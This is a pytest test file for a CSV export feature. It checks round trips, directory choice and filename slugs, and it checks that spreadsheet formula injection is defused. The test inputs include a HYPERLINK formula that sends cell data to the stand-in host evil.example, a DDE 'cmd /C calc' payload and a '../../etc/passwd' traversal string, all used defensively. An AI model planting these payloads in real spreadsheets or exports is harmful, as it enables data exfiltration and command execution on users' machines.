"""CSV export of loaded rows: round trip, formula defusing, where the file goes."""

from __future__ import annotations

import csv
from collections.abc import Iterator
from datetime import datetime
from pathlib import Path

import platformdirs
import pytest

from affinity_tui.data.export import EXPORT_DIR_ENV, defuse_formula, export_csv, export_dir, export_slug
from affinity_tui.data.rows import Column, Row

WHEN = datetime(2026, 11, 24, 9, 30, 15)


def _columns(*titles: str) -> list[Column]:
    return [Column(f"k{i}", title, "text", "global", 10) for i, title in enumerate(titles)]


def _row(key: int, *cells: str) -> Row:
    return Row(key=key, entity_type="company", entity_id=key, cells=tuple(cells),
               styles=(None,) * len(cells), sort_keys=(None,) * len(cells))


def _read(path: Path, encoding: str = "utf-8") -> list[list[str]]:
    with path.open(encoding=encoding, newline="") as handle:
        return list(csv.reader(handle))


def test_round_trip_with_the_csv_module(tmp_path: Path) -> None:
    columns = _columns("Name", "Domain", "Notes")
    rows = [_row(1, "Müller & Söhne, GmbH", "mueller.de", 'He said "hi"\nthen left'),
            _row(2, "Zoë 日本", "", "—"),
            _row(3, "Plain", "plain.io", "$1,500,000")]
    path = export_csv(columns, rows, what="Portfolio", directory=tmp_path, now=WHEN)
    assert path == tmp_path / "affinity-tui-portfolio-20261124-093015.csv"
    assert _read(path) == [["Name", "Domain", "Notes"], *[list(r.cells) for r in rows]]
    assert path.read_bytes().startswith(b"Name,Domain,Notes\r\n")  # UTF-8, no BOM


def test_formulas_are_defused(tmp_path: Path) -> None:
    hostile = ["=HYPERLINK(\"https://evil.example?\"&A1,\"x\")", "+1+1", "-2+3", "@SUM(A1:A9)",
               "\t=1", "\r=1", "-", "=", "@alice"]
    path = export_csv(_columns("=cmd|' /C calc'!A0", "Value"),
                      [_row(i, text, "ok") for i, text in enumerate(hostile)], directory=tmp_path, now=WHEN)
    header, *body = _read(path)
    assert header == ["'=cmd|' /C calc'!A0", "Value"]
    assert [cells[0] for cells in body] == ["'" + text for text in hostile]
    assert all(not cells[0].startswith(("=", "+", "-", "@", "\t", "\r")) for cells in body)


@pytest.mark.parametrize("number", ["-12", "-3.5", "-$1,500", "-$1,500.50", "-12%", "-1,234,567"])
def test_plain_negative_numbers_stay_numbers(number: str) -> None:
    assert defuse_formula(number) == number


@pytest.mark.parametrize("text", ["-1+2", "-$1,50,0", "-12e3", "-A1", "- 5", "-1,2"])
def test_anything_else_after_a_minus_is_defused(text: str) -> None:
    assert defuse_formula(text) == "'" + text


def test_where_the_file_goes(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    downloads = tmp_path / "Downloads"
    monkeypatch.setattr(platformdirs, "user_downloads_path", lambda: downloads)
    monkeypatch.delenv(EXPORT_DIR_ENV, raising=False)
    assert export_dir() == downloads
    first = export_csv(_columns("A"), [_row(1, "x")], what="Deal Pipeline — Active deals!", now=WHEN)
    assert first == downloads / "affinity-tui-deal-pipeline-active-deals-20261124-093015.csv"
    second = export_csv(_columns("A"), [_row(1, "y")], what="Deal Pipeline — Active deals!", now=WHEN)
    assert second.name.endswith("-20261124-093015-2.csv")  # never overwrites
    assert _read(first)[1] == ["x"] and _read(second)[1] == ["y"]

    monkeypatch.setenv(EXPORT_DIR_ENV, str(tmp_path / "from-env"))
    assert export_csv(_columns("A"), [], now=WHEN).parent == tmp_path / "from-env"
    injected = tmp_path / "injected"
    assert export_csv(_columns("A"), [], directory=injected, now=WHEN).parent == injected


def test_explicit_path_and_bom(tmp_path: Path) -> None:
    target = tmp_path / "sub" / "out.csv"
    assert export_csv(_columns("Name"), [_row(1, "Müller")], target, bom=True) == target
    assert target.read_bytes().startswith(b"\xef\xbb\xbf")
    assert _read(target, "utf-8-sig") == [["Name"], ["Müller"]]


def test_a_failed_export_leaves_no_file(tmp_path: Path) -> None:
    def rows() -> Iterator[Row]:
        yield _row(1, "x")
        raise RuntimeError("boom")

    with pytest.raises(RuntimeError):
        export_csv(_columns("A"), rows(), directory=tmp_path, now=WHEN)
    assert list(tmp_path.iterdir()) == []


def test_slug() -> None:
    assert export_slug("Founders") == "founders"
    assert export_slug("../../etc/passwd") == "etc-passwd"
    assert export_slug("日本") == "export"
    assert len(export_slug("x" * 200)) <= 40
